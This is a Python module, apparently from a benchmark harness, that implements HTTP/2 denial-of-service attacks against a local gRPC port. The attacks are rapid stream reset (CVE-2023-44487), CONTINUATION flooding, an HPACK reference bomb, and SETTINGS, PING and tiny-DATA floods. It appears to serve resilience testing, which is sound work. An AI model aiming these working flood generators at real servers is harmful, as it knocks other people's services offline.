"""The attacks of bench.attacks on the gRPC port with HTTP/2 frames that a gRPC client would not send (RFC 9113)."""

import asyncio
from collections.abc import Awaitable, Callable, Iterator
from itertools import count

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
CANCEL = bytes([0, 0, 0, 8])
FLOOD_S = 5.0
"""Duration of a flood of frames in seconds."""
BATCH_BYTES = 256 * 1024
"""Number of bytes that are sent at once."""


def frame(kind: int, payload: bytes = b"", *, flags: int = 0, stream: int = 0) -> bytes:
    """Return an HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def _text(value: bytes) -> bytes:
    """Return a string of less than 127 bytes as in a header block (RFC 7541, 5.2)."""
    return bytes([len(value)]) + value


def _field(name: bytes, value: bytes) -> bytes:
    return b"\x00" + _text(name) + _text(value)


def header_block(path: bytes) -> bytes:
    """Return the header of a gRPC call, without compression (RFC 7541)."""
    fields = (b"\x04" + _text(path), _field(b"content-type", b"application/grpc"), _field(b"te", b"trailers"))
    return b"\x83\x86\x01" + _text(b"localhost") + b"".join(fields)


def streams() -> Iterator[int]:
    """Yield the numbers of the streams of a client."""
    return count(1, 2)


GENERATE = header_block(b"/codec.latents.v1.LatentService/Generate")


def reset_streams() -> Iterator[bytes]:
    """Yield calls that are cancelled at once (CVE-2023-44487)."""
    for stream in streams():
        yield frame(HEADERS, GENERATE, flags=END_HEADERS, stream=stream) + frame(RST_STREAM, CANCEL, stream=stream)


def endless_header() -> Iterator[bytes]:
    """Yield a header without an end."""
    yield frame(HEADERS, GENERATE, stream=1)
    while True:
        yield frame(CONTINUATION, _field(b"x", b"y" * 100) * 100, stream=1)


def header_of_references() -> Iterator[bytes]:
    """Yield headers that each have 16,000 references to one stored field of 4 kB."""
    stored = b"\x40" + _text(b"x") + b"\x7f\xfd\x1d" + b"y" * 3964
    yield frame(HEADERS, GENERATE + stored, flags=END_HEADERS, stream=1)
    for stream in streams():
        if stream > 1:
            yield frame(HEADERS, GENERATE + b"\xbe" * 16_000, flags=END_HEADERS, stream=stream)


def settings() -> Iterator[bytes]:
    """Yield settings, each of which the server must acknowledge."""
    while True:
        yield frame(SETTINGS)


def pings() -> Iterator[bytes]:
    """Yield pings, each of which the server must answer."""
    while True:
        yield frame(PING, bytes(8))


def empty_data() -> Iterator[bytes]:
    """Yield the data of one call in frames without data, which flow control does not limit."""
    yield frame(HEADERS, GENERATE, flags=END_HEADERS, stream=1)
    while True:
        yield frame(DATA, stream=1)


def message_byte_by_byte() -> Iterator[bytes]:
    """Yield a message of 16 MiB in frames of one byte."""
    yield frame(HEADERS, GENERATE, flags=END_HEADERS, stream=1)
    yield frame(DATA, b"\x00" + (2**24).to_bytes(4, "big"), stream=1)
    while True:
        yield frame(DATA, b"\x00", stream=1)


def flood(frames: Callable[[], Iterator[bytes]]) -> Callable[[int], Awaitable[str]]:
    """Return an attack that sends `frames` for FLOOD_S seconds, on a new connection whenever the server closes one."""

    async def read(reader: asyncio.StreamReader) -> None:
        while await reader.read(65536):
            pass

    async def connection(port: int) -> int:
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        reading = asyncio.create_task(read(reader))
        sent = 0
        try:
            writer.write(PREFACE + frame(SETTINGS))
            batch = bytearray()
            for one in frames():
                batch += one
                sent += 1
                if len(batch) >= BATCH_BYTES:
                    writer.write(bytes(batch))
                    await writer.drain()
                    batch.clear()
                    if reading.done():
                        break
        except OSError:
            pass
        finally:
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)
            writer.close()
        return sent

    async def run(port: int) -> str:
        connections = sent = 0
        try:
            async with asyncio.timeout(FLOOD_S):
                while True:
                    connections += 1
                    sent += await connection(port)
        except TimeoutError:
            return f"{connections} connections"

    return run
